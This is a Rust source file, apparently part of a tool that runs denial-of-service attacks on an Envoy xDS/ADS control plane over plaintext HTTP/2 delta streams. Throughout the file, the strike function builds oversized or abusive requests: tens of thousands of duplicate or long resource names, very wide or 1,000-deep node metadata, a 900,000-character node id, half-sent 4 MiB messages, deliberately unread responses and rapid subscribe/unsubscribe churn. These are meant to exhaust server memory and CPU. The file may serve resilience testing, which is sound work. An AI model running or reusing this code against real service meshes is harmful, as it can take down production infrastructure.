//! ADS streams whose requests cost much, or whose clients make the server keep much. On the plaintext port, in the delta variant.

use std::collections::BTreeMap;

use anyhow::{Context, Result, anyhow, bail};
use bytes::Bytes;
use h2::client::Builder;
use h2::{RecvStream, SendStream};
use prost::Message;
use wire::envoy::config::core::v3::Node;
use wire::envoy::service::discovery::v3::DeltaDiscoveryRequest;
use wire::google::protobuf::{Struct, Value, value::Kind};

use super::{Attack, Held, Targets, dial};
use crate::proxy::{Task, frame, handshake, request};
use crate::resource_type::ResourceType;

/// A window that the first response fills.
const SMALL_WINDOW: u32 = 1 << 10;
const MESSAGE: usize = 4 << 20;

pub(super) async fn strike(attack: Attack, to: &Targets, number: usize) -> Result<Option<Held>> {
    let window = if attack == Attack::UnreadResponses { SMALL_WINDOW } else { 1 << 20 };
    let mut stream = Stream::open(to, number, window).await?;
    match attack {
        Attack::DuplicateNames | Attack::ManyNames | Attack::InitialVersions => {
            stream.send(&node(BTreeMap::new()), &costly(attack))?;
            stream.first_response().await?;
            return Ok(None);
        }
        Attack::WideMetadata | Attack::DeepMetadata | Attack::LongNodeId => {
            stream.send(&odd_node(attack), &clusters())?;
            stream.first_response().await?;
            return Ok(None);
        }
        Attack::DistinctClasses => {
            stream.send(&node(distinct(number)), &clusters())?;
            stream.first_response().await?;
            return Ok(None);
        }
        Attack::KeptClasses => {
            stream.send(&node(distinct(number)), &clusters())?;
            stream.first_response().await?;
        }
        Attack::LongNames => {
            let names = (0..3_900).map(|n| format!("outbound|80||{number}-{n}.{}", "x".repeat(970))).collect();
            stream.send(&node(BTreeMap::new()), &named(names))?;
            stream.first_response().await?;
        }
        Attack::IncompleteMessages => {
            stream.send(&node(BTreeMap::new()), &clusters())?;
            let mut bytes = vec![0; MESSAGE + 4];
            bytes[1..5].copy_from_slice(&u32::try_from(MESSAGE)?.to_be_bytes());
            stream.requests.send_data(bytes.into(), false)?;
            stream.until_end().await?;
        }
        Attack::UnreadResponses => stream.send(&node(BTreeMap::new()), &clusters())?,
        Attack::SubscriptionChanges => {
            stream.send(&node(BTreeMap::new()), &named(vec!["a".to_owned()]))?;
            for _ in 0..500 {
                let more = named(vec!["b".to_owned()]);
                let less =
                    DeltaDiscoveryRequest { resource_names_unsubscribe: vec!["b".to_owned()], ..named(Vec::new()) };
                stream.requests.send_data([frame(&[], &more), frame(&[], &less)].concat().into(), false)?;
            }
            stream.until_end().await?;
        }
        other => bail!("{other:?} is no stream"),
    }
    Ok(Some(Box::new(stream)))
}

/// One ADS stream on its own connection.
struct Stream {
    requests: SendStream<Bytes>,
    /// `None`: it was awaited.
    response: Option<h2::client::ResponseFuture>,
    body: Option<RecvStream>,
    _connection: Task,
}

impl Stream {
    async fn open(to: &Targets, number: usize, window: u32) -> Result<Stream> {
        let mut builder = Builder::new();
        builder.initial_window_size(window);
        let (client, connection) = handshake(&builder, dial(to.xds, number).await?).await.map_err(|e| anyhow!(e))?;
        let (response, requests) = client.ready().await?.send_request(request(), false)?;
        Ok(Stream { requests, response: Some(response), body: None, _connection: connection })
    }

    fn send(&mut self, node: &Node, request: &DeltaDiscoveryRequest) -> Result<()> {
        Ok(self.requests.send_data(frame(&node.encode_to_vec(), request), false)?)
    }

    /// The first bytes of a response, or an error with its status.
    async fn first_response(&mut self) -> Result<()> {
        let response = self.response.take().context("awaited once")?.await?;
        if let Some(status) = response.headers().get("grpc-status") {
            bail!("status {status:?}");
        }
        let body = self.body.insert(response.into_body());
        body.data().await.context("it ended")??;
        Ok(())
    }

    /// The server ends it, which is an error; or the attack is over.
    async fn until_end(&mut self) -> Result<()> {
        self.first_response().await?;
        let body = self.body.as_mut().context("it has begun")?;
        while let Some(data) = body.data().await {
            let length = data?.len();
            body.flow_control().release_capacity(length)?;
        }
        bail!("it ended")
    }
}

fn clusters() -> DeltaDiscoveryRequest {
    DeltaDiscoveryRequest { type_url: ResourceType::Cluster.url().to_owned(), ..Default::default() }
}

fn named(resource_names_subscribe: Vec<String>) -> DeltaDiscoveryRequest {
    let type_url = ResourceType::Endpoints.url().to_owned();
    DeltaDiscoveryRequest { type_url, resource_names_subscribe, ..Default::default() }
}

fn costly(attack: Attack) -> DeltaDiscoveryRequest {
    let names = |count: usize| (0..count).map(|n| format!("outbound|80||s-{n}.ns.svc.x"));
    match attack {
        Attack::DuplicateNames => DeltaDiscoveryRequest {
            resource_names_unsubscribe: vec!["b".to_owned(); 50_000],
            ..named(vec!["a".to_owned(); 50_000])
        },
        Attack::ManyNames => named(names(100_000).collect()),
        _ => {
            let versions = names(60_000).map(|name| (name, "v".to_owned())).collect();
            DeltaDiscoveryRequest { initial_resource_versions: versions, ..clusters() }
        }
    }
}

fn odd_node(attack: Attack) -> Node {
    let text = |text: String| Value { kind: Some(Kind::StringValue(text)) };
    let inside = |fields| Value { kind: Some(Kind::StructValue(Struct { fields })) };
    match attack {
        Attack::WideMetadata => {
            let labels = (0..9_900).map(|n| (format!("label-{n}"), text("v".repeat(60)))).collect();
            node(BTreeMap::from([("LABELS".to_owned(), inside(labels))]))
        }
        Attack::DeepMetadata => {
            let deep = (0..1_000).fold(text(String::new()), |deep, _| inside(BTreeMap::from([("a".to_owned(), deep)])));
            node(BTreeMap::from([("LABELS".to_owned(), deep)]))
        }
        _ => Node {
            id: format!("sidecar~10.9.9.9~{}.ns-0~ns-0.svc.cluster.local", "x".repeat(900_000)),
            ..node(BTreeMap::new())
        },
    }
}

fn distinct(number: usize) -> BTreeMap<String, Value> {
    let value = Value { kind: Some(Kind::StringValue(format!("{}s", 1_000 + number))) };
    BTreeMap::from([("IDLE_TIMEOUT".to_owned(), value)])
}

fn node(fields: BTreeMap<String, Value>) -> Node {
    let id = "sidecar~10.9.9.9~attacker.ns-0~ns-0.svc.cluster.local".to_owned();
    Node { id, metadata: Some(Struct { fields }.encode_to_vec().into()), ..Default::default() }
}
